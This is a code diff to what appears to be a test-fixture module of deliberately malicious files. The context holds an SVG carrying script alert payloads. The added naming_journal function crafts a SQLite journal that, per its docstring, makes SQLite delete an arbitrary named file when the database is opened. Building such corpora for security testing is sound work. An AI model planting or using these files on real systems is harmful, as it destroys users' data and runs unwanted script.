@@ -1,6 +1,7 @@
 """Files that were made to do harm, each a few hundred bytes to a few MB."""
 
 import io
+import os
 import struct
 import zipfile
 import zlib
@@ -139,3 +140,12 @@ def jpeg_in_html():
 def svg():
     """A drawing with a script."""
     return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
+
+
+def naming_journal(database, named):
+    """A journal of SQLite, to lie beside a database, after which SQLite deletes the file that it names."""
+    page = struct.unpack(">H", database[16:18])[0]
+    magic, name = bytes.fromhex("d9d505f920a163d7"), os.fsencode(named)
+    header = magic + struct.pack(">5I", 0, 0, len(database) // page, 512, page)
+    locked_page = struct.pack(">I", 2**30 // page + 1)
+    return header.ljust(512, b"\0") + locked_page + name + struct.pack(">2I", len(name), sum(name)) + magic
